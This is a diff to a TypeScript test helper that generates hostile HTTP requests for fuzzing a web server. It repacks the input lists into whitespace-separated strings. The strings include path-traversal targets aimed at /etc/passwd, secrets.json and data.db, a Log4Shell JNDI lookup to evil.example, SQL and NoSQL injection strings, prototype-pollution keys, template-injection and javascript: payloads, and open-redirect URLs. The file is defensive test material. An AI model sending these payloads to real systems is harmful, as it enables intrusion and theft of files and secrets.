@@ -1,4 +1,5 @@
 import { createRandom, type Random } from '#testing/random.ts';
+import { words } from './words.ts';
 
 /** Bytes that somebody who means ill might send, and which family they belong to. */
 export type Hostile = { family: string; bytes: Buffer };
@@ -8,193 +9,36 @@ const SEED = 20_260_101;
 
 /** Pieces that parsers, decoders and file systems have stumbled over. */
 const PIECES = [
-  '%',
-  '%f',
-  '%ff',
-  '%00',
-  '%0a',
-  '%0d%0a',
-  '%c0%af',
-  '%c1%9c',
-  '%e0%80%af',
-  '%ed%a0%80',
-  '%f8%80%80%80',
-  '%u0000',
-  '%25',
-  '%2525',
-  '%2f',
-  '%5c',
-  '%2e%2e',
-  '..',
-  '.',
-  '...',
-  '/',
-  '//',
-  '///',
-  '\\',
-  '..;',
-  ';',
-  ';a=b',
-  '?',
-  '??',
-  '&',
-  '=',
-  '#',
-  '@',
-  ':',
-  ':80',
-  '[',
-  ']',
-  '[::1]',
-  '{',
-  '}',
-  '|',
-  '^',
-  '`',
-  '"',
-  "'",
-  '<',
-  '>',
-  '*',
-  '~',
-  '$',
-  '!',
-  '(',
-  ')',
-  '+',
-  ',',
-  'http://',
-  'https://evil.example',
-  'file:///etc/passwd',
-  'javascript:alert(1)',
-  '\x80',
-  '\xff',
-  '\xc3',
-  '\xe2\x80\xae',
-  '\x7f',
-  '__proto__',
-  'constructor',
-  'prototype',
-  'toString',
-  '\x24{jndi:ldap://evil.example/a}',
-  '{{7*7}}',
+  ...words(`% %f %ff %00 %0a %0d%0a %c0%af %c1%9c %e0%80%af %ed%a0%80 %f8%80%80%80 %u0000 %25 %2525 %2f %5c %2e%2e
+    .. . ... / // /// \\ ..; ; ;a=b ? ?? & = # @ : :80 [ ] [::1] { } | ^ \` " ' < > * ~ $ ! ( ) + , http://
+    https://evil.example file:///etc/passwd javascript:alert(1) \x80 \xff \xc3 \xe2\x80\xae \x7f __proto__ constructor
+    prototype toString \${jndi:ldap://evil.example/a} {{7*7}} $ne [$ne] NaN -1 0 1e309 9999999999999999999
+    %F0%9F%92%A9 İ \u0000`),
   "' OR 1=1--",
-  '$ne',
-  '[$ne]',
-  'NaN',
-  '-1',
-  '0',
-  '1e309',
-  '9999999999999999999',
-  '%F0%9F%92%A9',
-  'İ',
-  '\u0000',
-] as const;
-
-const ROUTES = [
-  '/',
-  '/home',
-  '/article/',
-  '/article/x/',
-  '/search',
-  '/search?',
-  '/search?keywords=',
-  '/api/',
-  '/api/articles',
-  '/api/articles?',
-  '/api/site?',
-  '/assets/',
-  '/uploads/',
-  '/healthz',
-  '/readyz',
-  '/error',
-  '/.well-known/',
-  '/admin',
-  '/graphql',
-] as const;
-
-const PARAMETERS = [
-  'keywords',
-  'categories',
-  'tags',
-  'dossiers',
-  'sort',
-  'page',
-  'populate',
-  'populate[0]',
-  'filters[title][$containsi]',
-  'filters[$or][0][categories][name][$containsi][0]',
-  'pagination[page]',
-  'pagination[pageSize]',
-  '__proto__',
-  'constructor[prototype]',
-  'status',
-  '_q',
-  'a',
-] as const;
-
-const METHODS = [
-  'POST',
-  'PUT',
-  'DELETE',
-  'PATCH',
-  'OPTIONS',
-  'TRACE',
-  'CONNECT',
-  'PROPFIND',
-  'HEAD',
-  'PURGE',
-  'BREW',
-  'get',
-  'G\x00T',
-  'M-SEARCH',
-  'LINK',
 ];
 
+const ROUTES =
+  words(`/ /home /article/ /article/x/ /search /search? /search?keywords= /api/ /api/articles /api/articles?
+  /api/site? /assets/ /uploads/ /healthz /readyz /error /.well-known/ /admin /graphql`);
+
+const PARAMETERS =
+  words(`keywords categories tags dossiers sort page populate populate[0] filters[title][$containsi]
+  filters[$or][0][categories][name][$containsi][0] pagination[page] pagination[pageSize] __proto__
+  constructor[prototype] status _q a`);
+
+const METHODS = words(
+  'POST PUT DELETE PATCH OPTIONS TRACE CONNECT PROPFIND HEAD PURGE BREW get G\x00T M-SEARCH LINK',
+);
+
 const TARGETS = [
-  '//',
-  '///',
-  '/%',
-  '/%ff',
-  '/%00',
-  'http://[',
-  'http://[::1',
-  'http://evil.example/',
-  'https://evil.example:99999/',
-  '//evil.example/%2f..',
-  '/.//evil.example',
-  '/\\evil.example',
-  '/./%2e/',
-  '*',
-  '',
-  '?',
-  '#',
-  'evil',
-  'evil.example:80',
-  '/a b',
-  '/\x00',
-  '/\t',
-  '/\x80\x81',
-  '/a\rb',
-  '/%E0%A4%A',
-  'http:///',
-  'http:',
-  '@evil',
-  'ftp://x/',
-  '/..',
-  '/../../../etc/passwd',
-  '/%2e%2e%2f%2e%2e%2fetc%2fpasswd',
-  '/assets/../server/main.ts',
-  '/assets/..%2f..%2fpackage.json',
-  '/assets/%2e%2e/%2e%2e/package.json',
-  '/uploads/..%2f..%2fdata.db',
-  '/uploads/%2e%2e%2f%2e%2e%2f%2e%2e%2fsecrets.json',
-  '/uploads/%00.png',
-  '/assets//etc/passwd',
-  '/assets/.vite/manifest.json',
-  '/uploads/',
-  '/assets/',
-] as const;
+  ...words(`// /// /% /%ff /%00 http://[ http://[::1 http://evil.example/ https://evil.example:99999/
+    //evil.example/%2f.. /.//evil.example /\\evil.example /./%2e/ * ? # evil evil.example:80 /\x00 /\x80\x81 /%E0%A4%A
+    http:/// http: @evil ftp://x/ /.. /../../../etc/passwd /%2e%2e%2f%2e%2e%2fetc%2fpasswd /assets/../server/main.ts
+    /assets/..%2f..%2fpackage.json /assets/%2e%2e/%2e%2e/package.json /uploads/..%2f..%2fdata.db
+    /uploads/%2e%2e%2f%2e%2e%2f%2e%2e%2fsecrets.json /uploads/%00.png /assets//etc/passwd
+    /assets/.vite/manifest.json /uploads/ /assets/`),
+  ...['', '/a b', '/\t', '/a\rb'],
+];
 
 /** What comes with a request to a good address. */
 const HEADERS = [
